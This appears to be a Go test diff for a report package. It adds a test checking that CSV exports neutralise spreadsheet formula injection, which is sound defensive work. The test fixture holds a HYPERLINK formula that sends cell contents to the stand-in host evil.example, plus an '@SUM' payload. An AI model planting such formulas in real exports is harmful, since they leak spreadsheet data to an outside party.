@@ -2,6 +2,7 @@ package report_test
 
 import (
 	"bytes"
+	"encoding/csv"
 	"encoding/json"
 	"flag"
 	"os"
@@ -143,5 +144,44 @@ func TestAsOfExcludesLaterFlows(t *testing.T) {
 	}
 	if !strings.Contains(buf.String(), `"billing.invoice"`) {
 		t.Error("a flow that started before the as-of date is missing")
+	}
+}
+
+// A name that starts like a formula stays text in the CSV record: a
+// system named =HYPERLINK(…) must not run in an auditor's spreadsheet.
+func TestCSVCellsAreNotFormulas(t *testing.T) {
+	reg, obs := fixture(t)
+	evil := obs[0]
+	evil.System = `=HYPERLINK("http://evil.example/?"&A1,"open")`
+	evil.Recipient = "@SUM(1+1)"
+	obs = append(obs, evil)
+	rec, err := report.Build(reg, taxonomy.Default(), obs, report.Options{AsOf: fixtureAsOf, Version: "test",
+		GeneratedAt: time.Date(2026, 12, 1, 9, 0, 0, 0, time.UTC)})
+	if err != nil {
+		t.Fatal(err)
+	}
+	var buf bytes.Buffer
+	if err := report.Write(&buf, rec, "csv"); err != nil {
+		t.Fatal(err)
+	}
+	r := csv.NewReader(&buf)
+	r.FieldsPerRecord = -1
+	rows, err := r.ReadAll()
+	if err != nil {
+		t.Fatal(err)
+	}
+	found := false
+	for _, row := range rows {
+		for _, cell := range row {
+			if strings.Contains(cell, "HYPERLINK") {
+				found = true
+			}
+			if cell != "" && strings.ContainsRune("=+@\t\r", rune(cell[0])) {
+				t.Errorf("cell %q starts like a formula", cell)
+			}
+		}
+	}
+	if !found {
+		t.Fatal("the undeclared system is not in the record")
 	}
 }
